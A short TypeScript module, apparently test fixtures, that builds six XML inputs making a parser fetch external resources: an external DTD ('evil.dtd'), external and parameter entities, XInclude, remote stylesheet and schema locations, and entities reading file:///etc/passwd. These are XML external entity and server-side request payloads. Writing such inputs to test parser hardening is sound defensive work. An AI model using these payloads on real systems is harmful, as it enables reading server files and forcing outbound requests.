/** XML that asks for something outside of itself: a page of `address`, or a file of this machine. */
export const curiousXml = (address: string): Readonly<Record<string, (root: string) => string>> => ({
  "an external document type": (root) => `<!DOCTYPE ${root} SYSTEM "${address}/evil.dtd"><${root}/>`,
  "an external entity": (root) =>
    `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${address}/entity">]><${root}><a>&x;</a></${root}>`,
  "an entity that is a file": (root) =>
    `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd">]><${root}><a>&x;</a></${root}>`,
  "a parameter entity": (root) => `<!DOCTYPE ${root} [<!ENTITY % x SYSTEM "${address}/parameter"> %x;]><${root}/>`,
  "an inclusion": (root) =>
    `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${address}/x" parse="text"/><xi:include href="file:///etc/passwd" parse="text"/></${root}>`,
  "a schema's location and a stylesheet": (root) =>
    `<?xml-stylesheet type="text/xsl" href="${address}/x.xsl"?><${root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${address}/x.xsd"/>`
})
